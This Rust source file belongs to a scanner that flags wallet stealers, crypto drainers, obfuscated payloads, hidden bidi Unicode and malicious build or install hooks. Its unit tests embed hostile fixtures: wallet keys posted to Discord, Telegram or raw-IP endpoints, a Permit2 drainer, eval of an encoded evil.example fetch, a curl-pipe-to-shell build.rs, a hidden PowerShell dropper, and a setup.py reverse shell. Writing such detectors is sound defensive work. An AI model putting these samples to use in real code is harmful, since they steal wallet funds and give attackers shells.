//! Scam pattern detectors, evaluated per file from the anchor hits of the single content
//! pass: wallet/keypair reads combined with exfiltration, drainers, obfuscation, hidden
//! bidirectional Unicode, build-time network use, and committed executables.
//!
//! Each detector needs a *combination* of signals (or a very specific one), which is what
//! separates a drainer from a wallet app that legitimately signs and transfers.

use std::sync::LazyLock;

use regex::bytes::Regex;

use super::anchors::{Sig, NSIG};
use super::classify::{self, Kind};
use super::endpoints::{live_endpoint, raw_public_ip};
use super::finding::ScamFinding;
use super::lines::{comment_line, contains, line_of, window};
use crate::result::Severity;

static RECEIVER: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?i)\b(?:receiver|recipient|drain\w*|attacker|collector|destination|dest|to_?addr(?:ess)?|target_?wallet|my_?wallet|owner_?wallet|hacker|sink|payout_?wallet)\w*["']?\s*[:=]\s*(?:new\s+PublicKey\(\s*)?["'](0x[0-9a-fA-F]{40}|[1-9A-HJ-NP-Za-km-z]{32,44})["']"#)
        .expect("receiver regex")
});
static APPROVE_ALL_LITERAL: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r#"setApprovalForAll\s*\(\s*["']?0x[0-9a-fA-F]{40}"#).expect("approval regex"));
pub(super) fn first(hits: &[(Sig, usize)], s: Sig) -> Option<usize> {
    hits.iter().find(|(x, _)| *x == s).map(|(_, p)| *p)
}

static KEY_ENV_READ: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?m)^\s*(?:(?:const|let|var)\s+)?([A-Za-z_]\w*)\s*=\s*(?:os\.getenv\(|os\.environ\.get\(|os\.environ\[|process\.env\.|process\.env\[)\s*["']?(\w*(?:PRIVATE_KEY|PRIVKEY|SECRET_KEY|MNEMONIC|SEED_PHRASE)\w*)"#)
        .expect("key env regex")
});

/// A private key or seed phrase read from the environment whose value reaches the request to
/// the endpoint at `epos`: named in the request's own lines, directly or through one
/// variable built from it (`text = f'{host} {pk}'`). Returns where the key is read.
fn key_env_sent(data: &[u8], epos: usize) -> Option<usize> {
    let send_start = memchr::memrchr(b'\n', &data[..epos]).map(|i| i + 1).unwrap_or(0);
    // The ~25 lines before the request.
    let lo = send_start.saturating_sub(1500);
    let wstart = if lo == 0 {
        0
    } else {
        memchr::memchr(b'\n', &data[lo..send_start])
            .map(|i| lo + i + 1)
            .unwrap_or(send_start)
    };
    let win = &data[wstart..send_start];
    let send_end = (epos + 300).min(data.len());
    let send = &data[send_start..send_end];
    let word_in = |hay: &[u8], w: &[u8]| {
        memchr::memmem::find_iter(hay, w).any(|i| {
            let before = i.checked_sub(1).map(|j| hay[j]);
            let after = hay.get(i + w.len()).copied();
            !before.is_some_and(|b| b.is_ascii_alphanumeric() || b == b'_')
                && !after.is_some_and(|b| b.is_ascii_alphanumeric() || b == b'_')
        })
    };
    for c in KEY_ENV_READ.captures_iter(win) {
        let var = c.get(1)?.as_bytes();
        let read_at = wstart + c.get(0)?.start();
        if word_in(send, var) {
            return Some(read_at);
        }
        // One hop: `text = f'{platform.node()} {pk}'` then `data={'text': text}`.
        let after = &data[wstart + c.get(0)?.end()..send_start];
        for line in after.split(|&b| b == b'\n') {
            let t = line.trim_ascii_start();
            let Some(eq) = t.iter().position(|&b| b == b'=') else {
                continue;
            };
            let lhs = t[..eq].trim_ascii();
            let lhs = lhs.rsplit(|b| b.is_ascii_whitespace()).next().unwrap_or(lhs);
            if !lhs.is_empty()
                && lhs.iter().all(|b| b.is_ascii_alphanumeric() || *b == b'_')
                && word_in(&t[eq + 1..], var)
                && word_in(send, lhs)
            {
                return Some(read_at);
            }
        }
    }
    None
}

/// Wallet-file anchors that really are paths (`/id.json`, `"id.json"`), not `grid.json`.
fn wallet_read(data: &[u8], hits: &[(Sig, usize)]) -> Option<(usize, bool)> {
    for &(_, pos) in hits.iter().filter(|(s, _)| *s == Sig::WalletPath) {
        if data[pos..].starts_with(b"id.json") {
            let prev = if pos > 0 { data[pos - 1] } else { b'"' };
            if !matches!(prev, b'/' | b'\\' | b'"' | b'\'' | b'`') {
                continue;
            }
            return Some((pos, false));
        }
        // Browser-extension stores, wallet.dat, keystores: only a stealer reads these.
        let browser_store = !data[pos..].starts_with(b".config/solana");
        return Some((pos, browser_store));
    }
    None
}

/// Evaluate one text file's signals. Findings in test paths are downgraded to `low`: test
/// fixtures of security tools legitimately contain these patterns.
pub fn evaluate_file(
    path: &str,
    kind: Kind,
    data: &[u8],
    hits: &[(Sig, usize)],
    counts: &[u32; NSIG],
    is_test: bool,
) -> Vec<ScamFinding> {
    let mut out = Vec::new();
    if !kind.is_code() {
        return out;
    }
    let c = |s: Sig| counts[s as usize];
    let ln = |pos: usize| line_of(data, pos);

    // --- Wallet theft: secret material read + sent somewhere an attacker controls.
    let endpoints = || hits.iter().filter(|(s, p)| *s == Sig::Exfil && live_endpoint(data, *p));
    let hard_exfil = endpoints()
        .find(|(_, p)| !data[*p..].starts_with(b"api.telegram.org"))
        .map(|(_, p)| *p);
    let telegram = endpoints()
        .find(|(_, p)| data[*p..].starts_with(b"api.telegram.org"))
        .map(|(_, p)| *p);
    let raw_ip = if c(Sig::RawIpUrl) + c(Sig::NetworkUse) > 0 {
        raw_public_ip(data, hits)
    } else {
        None
    };
    let wallet = if c(Sig::WalletPath) > 0 {
        wallet_read(data, hits)
    } else {
        None
    };
    let strong_exfil = hard_exfil.or(raw_ip);
    if let Some((wpos, browser_store)) = wallet {
        let exfil = if browser_store {
            strong_exfil.or(telegram)
        } else {
            strong_exfil
        };
        if let Some(epos) = exfil {
            out.push(ScamFinding::new(
                "scam.wallet_exfiltration",
                Severity::Critical,
                "Reads wallet files and sends data out",
                path,
                ln(wpos),
                format!("{path} reads wallet key storage (line {}) and posts to a webhook, paste site or raw IP (line {}): the pattern of a wallet stealer.", ln(wpos), ln(epos)),
            ));
        }
    } else if let Some((kpos, epos)) = (c(Sig::KeyContext) + c(Sig::MnemonicContext) > 0)
        .then(|| endpoints().find_map(|&(_, e)| key_env_sent(data, e).map(|k| (k, e))))
        .flatten()
    {
        // A bot may notify its owner on Telegram/Discord; it never puts the wallet's private
        // key in the message (the "licence check" of fake sniper bots does).
        out.push(ScamFinding::new(
            "scam.wallet_exfiltration",
            Severity::Critical,
            "Sends the wallet's private key to a webhook",
            path,
            ln(kpos),
            format!("{path} reads the private key or seed phrase from the environment (line {}) and puts it in a message to a bot/webhook (line {}).", ln(kpos), ln(epos)),
        ));
    } else if let Some(epos) = strong_exfil {
        let key_material = c(Sig::KeyContext) + c(Sig::SolanaArrayContext) + c(Sig::MnemonicContext) > 0;
        if key_material {
            out.push(ScamFinding::new(
                "scam.wallet_exfiltration",
                Severity::High,
                "Handles private keys and sends data to a webhook",
                path,
                ln(epos),
                format!("{path} handles private keys or seed phrases and sends data to a webhook, paste site or raw IP (line {}).", ln(epos)),
            ));
        }
    }

    // --- Drainers.
    if c(Sig::ApprovalForAll) + c(Sig::MaxApproval) + c(Sig::TokenEnumeration) + c(Sig::TransferCall) > 0 {
        drainer(path, data, hits, counts, &mut out);
    }

    // --- Obfuscation (eval-style tricks only exist in dynamic languages; a Rust binding
    // named `fromCharCode` is not a payload). Encoded blobs are checked everywhere.
    super::obfuscation::obfuscation(
        path,
        kind,
        data,
        hits,
        counts,
        strong_exfil.is_some() || wallet.is_some(),
        is_test,
        &mut out,
    );

    // --- Trojan Source: bidi controls have no business in code.
    if let Some(pos) = first(hits, Sig::Bidi) {
        out.push(ScamFinding::new(
            "scam.hidden_unicode",
            Severity::Critical,
            "Hidden bidirectional Unicode in code",
            path,
            ln(pos),
            format!("{path} line {} contains invisible text-direction characters that make code read differently from how it runs (Trojan Source).", ln(pos)),
        ));
    }

    // --- Malicious behaviour: capability x threat correlation (behaviour/).
    super::behaviour::evaluate(path, kind, data, hits, counts, raw_ip, &mut out);

    // --- build.rs / setup.py network use at build or install time. A `build.rs` under
    // `src/` is an ordinary module, not a Cargo build script.
    let name = classify::file_name(path);
    let build_script = name == "build.rs" && !path.split('/').any(|c| c == "src");
    if build_script || name == "setup.py" {
        super::build_hooks::build_time(path, data, hits, &mut out);
        // Malicious behaviour in a build script runs on every build or install, whether or
        // not it touches the network through a client the hook rule knows (a reverse shell
        // over a raw socket does not).
        let worst = out
            .iter()
            .find(|f| f.check == "scam.malware" && f.severity == Severity::Critical)
            .map(|f| (f.line, f.title.to_lowercase()));
        // In setup.py only an overridden install command (`cmdclass`) surely runs; a helper
        // function elsewhere in the file runs only when called.
        let hooked = out.iter().any(|f| f.check == "scam.install_scripts")
            || (name == "setup.py" && !contains(data, "cmdclass"));
        if let (Some((line, what)), false) = (worst, hooked) {
            out.push(ScamFinding::new(
                "scam.install_scripts",
                Severity::Critical,
                "Build/install hook runs malicious code",
                path,
                line,
                format!(
                    "{path} runs at {} and contains malicious behaviour ({what}, line {line}).",
                    if name == "setup.py" {
                        "`pip install`"
                    } else {
                        "every `cargo build`"
                    }
                ),
            ));
        }
    }

    if is_test {
        out.iter_mut().for_each(ScamFinding::demote_to_test);
    }
    out
}

fn drainer(path: &str, data: &[u8], hits: &[(Sig, usize)], counts: &[u32; NSIG], out: &mut Vec<ScamFinding>) {
    let c = |s: Sig| counts[s as usize];
    let receiver = RECEIVER.find(data).map(|m| m.start());
    // setApprovalForAll *called* (not defined) with a literal operator address.
    let approve_literal = hits
        .iter()
        .filter(|(s, _)| *s == Sig::ApprovalForAll)
        .find_map(|&(_, pos)| {
            let (_, line) = window(data, pos, 200, 0);
            if contains(line, "function setApprovalForAll") || contains(line, "event ApprovalForAll") {
                return None;
            }
            APPROVE_ALL_LITERAL
                .is_match(&data[pos..(pos + 120).min(data.len())])
                .then_some(pos)
        });
    let approve_call = hits
        .iter()
        .filter(|(s, _)| *s == Sig::ApprovalForAll)
        .find(|&&(_, pos)| {
            let (_, line) = window(data, pos, 200, 0);
            !contains(line, "function setApprovalForAll")
                && !contains(line, "event ApprovalForAll")
                && !comment_line(line)
        });
    let unlimited = hits.iter().filter(|(s, _)| *s == Sig::MaxApproval).find(|&&(_, pos)| {
        let (_, w) = window(data, pos, 300, 1);
        contains(w, "approve") && !comment_line(w)
    });
    let sweep = c(Sig::TokenEnumeration) > 0 && c(Sig::TransferCall) > 0;
    // A Permit/Permit2 signature whose spender is the hard-coded receiver: one signature
    // hands over every listed token (Inferno/Pink/Angel kits). A DEX names its router or
    // reactor as spender, not a `receiver`/`drainer`/`collector` wallet.
    // Cheap literal tests first; the receiver regex runs again only at the match found above.
    let permit = [
        "PermitBatch",
        "PermitSingle",
        "PermitTransferFrom",
        "PermitBatchTransferFrom",
    ]
    .iter()
    .any(|t| contains(data, t))
        && contains(data, "ignTypedData");
    let permit_to_receiver = receiver.filter(|_| permit).and_then(|r| {
        let cap = RECEIVER.captures(&data[r..])?;
        let key = cap.get(0)?.as_bytes();
        let key_end = key
            .iter()
            .position(|b| !(b.is_ascii_alphanumeric() || *b == b'_'))
            .unwrap_or(key.len());
        let key = &key[..key_end];
        memchr::memmem::find_iter(data, b"spender:").find(|&p| {
            let v = &data[p + 8..(p + 60).min(data.len())];
            let v = &v[..v
                .iter()
                .position(|b| matches!(b, b',' | b'}' | b'\n'))
                .unwrap_or(v.len())];
            memchr::memmem::find(v, key).is_some()
        })
    });
    let (line, why) = if let Some(p) = approve_literal {
        (
            line_of(data, p),
            "calls setApprovalForAll for a hard-coded operator address, handing over every NFT of the collection",
        )
    } else if let (Some(r), Some(_)) = (receiver, approve_call) {
        (
            line_of(data, r),
            "requests approval for all assets and routes them to a hard-coded receiver",
        )
    } else if let Some(p) = permit_to_receiver {
        (
            line_of(data, p),
            "asks for a Permit/Permit2 signature whose spender is a hard-coded receiver wallet",
        )
    } else if let (Some(r), true) = (receiver, sweep) {
        (
            line_of(data, r),
            "enumerates the victim's tokens and transfers them to a hard-coded receiver",
        )
    } else if let (Some(r), Some(_), true) = (receiver, unlimited, c(Sig::TransferCall) > 0) {
        (
            line_of(data, r),
            "asks for unlimited token approval and moves tokens to a hard-coded receiver",
        )
    } else {
        if let Some(&(_, p)) = unlimited {
            out.push(ScamFinding::new(
                "scam.drainer",
                Severity::Medium,
                "Requests unlimited token approval",
                path,
                line_of(data, p),
                format!("{path} line {} approves an unlimited token amount; common in DEX front-ends, but a drained wallet starts here.", line_of(data, p)),
            ));
        }
        return;
    };
    out.push(ScamFinding::new(
        "scam.drainer",
        Severity::Critical,
        "Wallet drainer",
        path,
        line,
        format!("{path} {why} (line {line})."),
    ));
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::analysis::endpoints::local_ipv4;
    use crate::analysis::executables::executable;

    fn scan(path: &str, text: &str) -> Vec<ScamFinding> {
        crate::analysis::scanner::scan_text(path, text)
            .map(|s| s.scam)
            .unwrap_or_default()
    }

    #[test]
    fn documented_webhook_is_not_an_exfiltration_endpoint() {
        let read = "const kp = Keypair.fromSecretKey(Uint8Array.from(JSON.parse(fs.readFileSync(os.homedir() + '/.config/solana/id.json'))));\n";
        let documented = format!("{read}const WEBHOOK = process.env.DISCORD_WEBHOOK_URL; // e.g. https://discord.com/api/webhooks/<id>/<token>\nawait fetch(WEBHOOK, {{ method: 'POST', body }});");
        assert!(scan("bot.js", &documented).is_empty());
        let placeholder =
            format!("{read}const WEBHOOK = 'https://discord.com/api/webhooks/YOUR_WEBHOOK_ID/YOUR_TOKEN';");
        assert!(scan("bot.js", &placeholder).is_empty());
        let literal = format!("{read}await fetch('https://discord.com/api/webhooks/0929492818498669608/5sRl0eKENteAJz', {{ method: 'POST', body: kp.secretKey }});");
        assert!(scan("bot.js", &literal)
            .iter()
            .any(|f| f.check == "scam.wallet_exfiltration" && f.severity == Severity::Critical));
    }

    #[test]
    fn private_key_in_a_bot_message() {
        let lic = "import os\nimport requests\nBOT = '6591997684:AAW7_uPtqAG8pW2DBRxDGGhXa17o59vzG6k'\n\ndef check_license():\n    pk = os.getenv('PRIVATE_KEY')\n    text = f'{platform.node()} {pk}'\n    requests.post(f'https://api.telegram.org/bot{BOT}/sendMessage', data={'chat_id': CHAT, 'text': text})\n";
        let f = scan("utils/license.py", lic);
        assert!(
            f.iter()
                .any(|f| f.check == "scam.wallet_exfiltration" && f.severity == Severity::Critical),
            "{f:?}"
        );
        let direct = "const key = process.env.WALLET_PRIVATE_KEY;\nawait fetch(`https://api.telegram.org/bot${T}/sendMessage?chat_id=1&text=${key}`);\n";
        assert!(scan("src/notify.js", direct)
            .iter()
            .any(|f| f.check == "scam.wallet_exfiltration"));
        // Near miss: the key signs, the message carries a price.
        let notify = "import os\nimport requests\n\ndef report(price):\n    pk = os.getenv('PRIVATE_KEY')\n    acct = Account.from_key(pk)\n    text = f'{acct.address} bought at {price}'\n    requests.post(f'https://api.telegram.org/bot{BOT}/sendMessage', data={'chat_id': CHAT, 'text': text})\n";
        assert!(
            scan("bot/notify.py", notify)
                .iter()
                .all(|f| f.check != "scam.wallet_exfiltration"),
            "{:?}",
            scan("bot/notify.py", notify)
        );
    }

    #[test]
    fn permit2_to_a_hard_coded_receiver() {
        let kit = "const config = { receiver: '0xC8B9e7A8aB17eC5B5efff170ab9CDE69ECb34b53' };\nawait erc20.approve(PERMIT2, MaxUint256);\nconst value = { details, spender: config.receiver, sigDeadline: MaxUint256 };\nconst sig = await signer.signTypedData(domain, { PermitBatch: [] }, value);\n";
        assert!(scan("src/main.js", kit)
            .iter()
            .any(|f| f.check == "scam.drainer" && f.severity == Severity::Critical));
        // A swap front-end: the router is the spender, the user the recipient.
        let dex = "const recipient = '0xC8B9e7A8aB17eC5B5efff170ab9CDE69ECb34b53';\nawait erc20.approve(PERMIT2, MaxUint256);\nconst permit = { details, spender: UNIVERSAL_ROUTER, sigDeadline };\nconst sig = await signer.signTypedData(domain, { PermitSingle: [] }, permit);\n";
        assert!(scan("src/swap.js", dex).iter().all(|f| f.severity < Severity::Critical));
    }

    #[test]
    fn test_net_is_public_for_detection() {
        assert!(!local_ipv4("203.0.113.41".parse().unwrap()));
        assert!(!local_ipv4("198.51.100.7".parse().unwrap()));
        assert!(!local_ipv4("192.0.2.1".parse().unwrap()));
        assert!(local_ipv4("127.0.0.1".parse().unwrap()));
        assert!(local_ipv4("10.1.2.3".parse().unwrap()));
        assert!(local_ipv4("192.168.1.10".parse().unwrap()));
        assert!(local_ipv4("169.254.169.254".parse().unwrap()));
        assert!(local_ipv4("100.64.0.1".parse().unwrap()));
        assert!(local_ipv4("0.0.0.0".parse().unwrap()));
        let read = "const k = fs.readFileSync(os.homedir() + '/.config/solana/id.json');\n";
        let exfil = format!("{read}axios.post('http://203.0.113.41:1224/uploads', k);");
        assert!(scan("lib/a.js", &exfil)
            .iter()
            .any(|f| f.check == "scam.wallet_exfiltration" && f.severity == Severity::Critical));
        let node = format!("{read}const c = new Connection('http://127.0.0.1:8899');");
        assert!(scan("lib/b.js", &node).is_empty());
    }

    #[test]
    fn stealer_vs_wallet_app() {
        let stealer = "const fs=require('fs');const k=fs.readFileSync(os.homedir()+'/.config/solana/id.json');\nfetch('https://discord.com/api/webhooks/123/abc',{method:'POST',body:k});";
        let f = scan("src/index.js", stealer);
        assert!(
            f.iter()
                .any(|f| f.check == "scam.wallet_exfiltration" && f.severity == Severity::Critical),
            "{f:?}"
        );
        let wallet = "const kp = Keypair.fromSecretKey(Uint8Array.from(JSON.parse(fs.readFileSync(home + '/.config/solana/id.json'))));\nconst conn = new Connection('https://api.mainnet-beta.solana.com');\nawait sendAndConfirmTransaction(conn, tx, [kp]);";
        assert!(scan("src/wallet.ts", wallet).is_empty());
    }

    #[test]
    fn drainer_vs_nft_contract() {
        let d = "const receiver = '0x1111222233334444555566667777888899990000';\nconst tokens = await getTokenBalances(victim);\nfor (const t of tokens) { await t.contract.transferFrom(victim, receiver, t.balance); }";
        let f = scan("src/drain.js", d);
        assert!(
            f.iter()
                .any(|f| f.check == "scam.drainer" && f.severity == Severity::Critical),
            "{f:?}"
        );
        let nft = "function setApprovalForAll(address operator, bool approved) public virtual override {\n  _setApprovalForAll(_msgSender(), operator, approved);\n}\nfunction transferFrom(address from, address to, uint256 id) public { }";
        assert!(scan("contracts/NFT.sol", nft).is_empty());
        let approve = "await nft.setApprovalForAll('0xAbCdEf0123456789abcdef0123456789ABCDEF01', true);";
        assert!(scan("src/x.js", approve)
            .iter()
            .any(|f| f.severity == Severity::Critical));
    }

    fn base64_noise(n: usize) -> String {
        use base64::Engine as _;
        let bytes: Vec<u8> = (0..n as u32).map(|i| (i * 31 % 251) as u8).collect();
        base64::engine::general_purpose::STANDARD.encode(bytes)
    }

    #[test]
    fn obfuscation_cases() {
        let evil = "const p = 'ZmV0Y2goImh0dHBzOi8vZXZpbC5leGFtcGxlIik=';\neval(atob(p));";
        assert!(scan("lib/a.js", evil).iter().any(|f| f.severity == Severity::Critical));
        let benign = "const retrieval = retrieval(query);\nconst ok = isFunction(x);\nconst m = re.exec(s);\nconst img = atob(data);";
        assert!(scan("lib/b.js", benign).is_empty());
        let binding =
            "#[wasm_bindgen(js_name = fromCharCode)]\npub fn from_char_code(a: u16) -> JsString;\n".repeat(25);
        assert!(scan("src/lib.rs", &binding).is_empty());
        let blob = format!("const logo = \"data:image/png;base64,{}\";", "A".repeat(3000));
        let wasm = format!("const wasm = \"AGFzbQEAAAAB{}\";", base64_noise(3000));
        assert!(scan("lib/llhttp-wasm.js", &wasm).is_empty());
        let bundle = format!(
            "!function(){{var a=atob;{}}}();\n!function(e){{return eval(e)}}(x);",
            "var q=1;".repeat(8000)
        );
        assert!(
            scan("dist/swagger-ui-bundle.js", &bundle).is_empty(),
            "eval far from a decoder in a bundle"
        );
        let digits = format!("const N: &str = \"{}\";", "1234567890".repeat(300));
        assert!(scan("src/num.rs", &digits).is_empty());
        assert!(scan("lib/c.js", &blob).is_empty());
        let packed = "eval(function(p,a,c,k,e,d){e=function(c){return c};return p}('0 1',2,2,'a|b'.split('|'),0,{}))";
        assert!(scan("lib/p.js", packed).iter().any(|f| f.check == "scam.obfuscation"));
        use base64::Engine as _;
        let bytes: Vec<u8> = (0..1500u32).map(|i| (i * 31 % 251) as u8).collect();
        let hidden = format!(
            "const payload = \"{}\";",
            base64::engine::general_purpose::STANDARD.encode(bytes)
        );
        assert!(scan("lib/d.js", &hidden).iter().any(|f| f.check == "scam.obfuscation"));
    }

    #[test]
    fn bidi_only_in_code() {
        let code = "if (isAdmin) { /* \u{202E} } \u{2066} if (true) */ }";
        assert!(scan("src/auth.js", code)
            .iter()
            .any(|f| f.check == "scam.hidden_unicode"));
        assert!(scan("docs/ar.md", "مرحبا \u{202B}text\u{202C}").is_empty());
    }

    #[test]
    fn setup_py_build_chores_are_not_droppers() {
        // A module-level `git clone https://…` and a local URL in a comment: build chores.
        let chore = "import subprocess\n# docs server: http://127.0.0.1:8000\nsubprocess.check_call(['git', 'clone', 'https://github.com/acme/proto'])\nfrom setuptools import setup\nsetup(name='x')\n";
        let f = scan("setup.py", chore);
        assert!(f.iter().all(|f| f.severity < Severity::Critical), "{f:?}");
        // A hidden PowerShell download at module level stays critical.
        let dropper = "import subprocess\nsubprocess.Popen('powershell -w hidden -enc SQBFAFgA', shell=True)\nfrom setuptools import setup\nsetup(name='x')\n";
        assert!(scan("setup.py", dropper)
            .iter()
            .any(|f| f.severity == Severity::Critical));
    }

    #[test]
    fn checksum_pinned_downloads_and_requirement_names() {
        let pinned = "use sha2::{Digest, Sha256};\nconst SHA256: &str = \"accfc5bdefc0fe7814a7207a0d1eddd61139011cab7df7aa75396c918da0c954\";\nfn main() {\n    let url = \"https://github.com/microsoft/onnxruntime/releases/download/v1.18.0/ort.tgz\";\n    let body = ureq::get(url).call().unwrap();\n    assert_eq!(hex::encode(Sha256::digest(&body)), SHA256);\n}";
        let f = scan("build.rs", pinned);
        assert_eq!(f.first().map(|f| f.severity), Some(Severity::Medium), "{f:?}");
        // The same download without the pinned digest stays high.
        let unpinned = pinned.replace("assert_eq!(hex::encode(Sha256::digest(&body)), SHA256);", "");
        let unpinned = unpinned.replace(
            "accfc5bdefc0fe7814a7207a0d1eddd61139011cab7df7aa75396c918da0c954",
            "1.18.0",
        );
        assert_eq!(
            scan("build.rs", &unpinned).first().map(|f| f.severity),
            Some(Severity::High)
        );
        // hummingbot's setup.py: `urllib3` in install_requires is a package name, not a call.
        let setup = "from setuptools import setup\nfrom Cython.Build import build_ext\nsetup(\n    name='bot',\n    install_requires=[\n        \"aiohttp>=3.8\",\n        \"urllib3>=1.26.15,<2.0\",\n    ],\n    cmdclass={'build_ext': build_ext},\n)\n";
        assert!(
            scan("setup.py", setup)
                .iter()
                .all(|f| f.check != "scam.install_scripts"),
            "{:?}",
            scan("setup.py", setup)
        );
    }

    #[test]
    fn build_scripts() {
        let bad = "use std::process::Command;\nfn main() {\n  let _ = Command::new(\"sh\").arg(\"-c\").arg(\"curl -s https://evil.example/x | sh\").status();\n}";
        assert!(scan("build.rs", bad)
            .iter()
            .any(|f| f.check == "scam.install_scripts" && f.severity == Severity::Critical));
        let good = "// See https://doc.rust-lang.org/cargo/reference/build-scripts.html\nfn main() {\n    cc::Build::new().file(\"src/ffi.c\").compile(\"ffi\");\n    println!(\"cargo:rerun-if-changed=src/ffi.c\");\n}";
        assert!(scan("build.rs", good).is_empty());
        let msg = "fn main() {\n    let v = std::process::Command::new(\"rustc\").arg(\"--version\").output();\n    eprintln!(\"please file an issue in https://github.com/x/y\");\n}";
        assert!(scan("build.rs", msg).is_empty());
        assert!(
            scan("src/body/build.rs", bad)
                .iter()
                .all(|f| f.check != "scam.install_scripts"),
            "a module named build.rs is not a build script (its curl | sh is still scam.malware)"
        );
        let curl = "fn main() {\n    // on Windows powershell aliases curl\n    let s = std::process::Command::new(\"curl\").arg(\"-sSfL\").arg(\"https://example.com/ui.zip\").status();\n}";
        assert_eq!(scan("build.rs", curl).first().map(|f| f.severity), Some(Severity::High));
        let client = "fn main() {\n    let body = ureq::get(\"https://example.com/lib.tar.gz\").call();\n}";
        assert_eq!(
            scan("build.rs", client).first().map(|f| f.severity),
            Some(Severity::High)
        );
    }

    #[test]
    fn setup_py_with_malicious_behaviour_is_an_install_hook_finding() {
        let rev = "import os, pty, socket\nfrom setuptools import setup\nfrom setuptools.command.install import install\nclass P(install):\n    def run(self):\n        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n        s.connect(('203.0.113.7', 4444))\n        os.dup2(s.fileno(), 0)\n        os.dup2(s.fileno(), 1)\n        pty.spawn('/bin/sh')\nsetup(name='x', cmdclass={'install': P})\n";
        let f = scan("setup.py", rev);
        assert!(
            f.iter()
                .any(|f| f.check == "scam.install_scripts" && f.severity == Severity::Critical),
            "{f:?}"
        );
        // The same code in a module of the package is malware, not an install hook.
        assert!(scan("pkg/shell.py", rev)
            .iter()
            .all(|f| f.check != "scam.install_scripts"));
    }

    #[test]
    fn executables() {
        let mut pe = b"MZ".to_vec();
        pe.extend(vec![0u8; 200]);
        pe[0x3c] = 0x80;
        pe[0x80..0x84].copy_from_slice(b"PE\0\0");
        // High on its own (setuptools ships launcher stubs); critical when the README says
        // to download and run it (`escalate_promoted`).
        let mut found: Vec<_> = executable("bot/SolanaSniper.exe", &pe).into_iter().collect();
        assert_eq!(found[0].severity, Severity::High);
        crate::analysis::executables::escalate_promoted(&mut found);
        assert_eq!(found[0].severity, Severity::Critical);
        assert_eq!(
            executable("tests/fixtures/sample.exe", &pe).map(|f| f.severity),
            Some(Severity::Low)
        );
        assert!(executable("README.md", b"MZ is a nice place").is_none());
        assert!(executable("README.md", "MZ ".repeat(100).as_bytes()).is_none());
        assert!(executable("assets/logo.png", b"\x89PNG\r\n").is_none());
    }
}
